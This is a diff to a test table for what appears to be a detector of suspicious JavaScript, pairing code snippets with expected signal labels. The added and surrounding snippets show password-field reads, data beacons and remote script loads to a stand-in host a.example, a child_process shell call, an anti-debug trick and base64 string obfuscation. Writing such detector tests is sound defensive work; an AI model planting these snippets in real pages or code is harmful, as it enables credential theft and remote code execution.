@@ -44,6 +44,18 @@ def signals_of(source: str):
         ("f(document.forms[0].elements[1].value)", ["input.keyboard value"]),
         ("f(document.querySelector('input[type=password]').value)", ["input.keyboard input[type=password]"]),
         ("new Image().src = 'https://a.example/?' + x", ["net.send https://a.example/?{x}"]),
+        ("const x = new XMLHttpRequest(); x.open('GET', 'https://a.example/p')", ["net.fetch https://a.example/p"]),
+        (
+            "document.write('<script src=\"https://a.example/x.js\"></script>')",
+            ['net.fetch <script src="https://a.example/x.js"></script>'],
+        ),
+        ("(function () {}).constructor('debu' + 'gger')()", ["anti.debug debugger"]),
+        ("arguments[1]('child_process').exec('id', f)", ["proc.shell id"]),
+        (
+            "const t = ['bG9nMTIz', 'ZXhlY1N5', 'aGVsbG8x', 'ZmV0Y2gx', 'cmVhZDEy', 'b3BlbjEy'];"
+            "function d(n) { return t[n - 1] }" + ";".join(f"f(d('0x{n}'))" for n in range(1, 7)),
+            ["obf.strings 6 texts from d"],
+        ),
         ("location.href = 'https://a.example/?' + x", ["net.send https://a.example/?{x}"]),
         ("document.createElement('script').src = 'https://a.example/x.js'", ["net.fetch https://a.example/x.js"]),
         (
